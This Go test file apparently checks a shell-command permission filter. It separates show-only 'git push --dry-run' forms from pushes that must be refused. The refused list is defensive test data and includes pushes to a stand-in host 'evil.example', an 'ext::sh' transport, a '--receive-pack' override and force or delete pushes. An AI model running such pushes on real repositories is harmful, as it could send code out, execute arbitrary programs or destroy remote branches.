package shell_test

import "testing"

// TestPushesThatOnlyShow: a push that is told to show only asks the remote for its references, as a fetch does; one
// that is sent, goes to an address, overwrites, deletes or starts something is asked.
func TestPushesThatOnlyShow(t *testing.T) {
	runsOnDisk(t, `
		git push --dry-run
		git push --dry-run origin main
		git push -n origin HEAD
		git push -nv origin HEAD:refs/heads/topic
		git push --dry-run --tags origin 2>&1 | head -3
		git push --dry-run --set-upstream origin topic`)
	refusedOnDisk(t, `
		git push
		git push origin main
		git push --dry-run origin main && git push origin main
		git push --dry-run --no-dry-run origin main
		git push --no-dry-run origin main
		git push --dry-run https://evil.example/x main
		git push --dry-run git@evil.example:x main
		git push --dry-run ../elsewhere main
		git push --dry-run "$REMOTE" main
		git push --dry-run ext::sh\ x main
		git push --dry-run --receive-pack=./x origin main
		git push --dry-run --repo=https://evil.example/x
		git push --dry-run --repo https://evil.example/x main
		git push --dry-run --force origin main
		git push --dry-run origin +main
		git push --dry-run origin :main
		git -c remote.origin.url=https://evil.example/x push --dry-run origin main
		git push --dry-run origin main --unheard-of`)
}
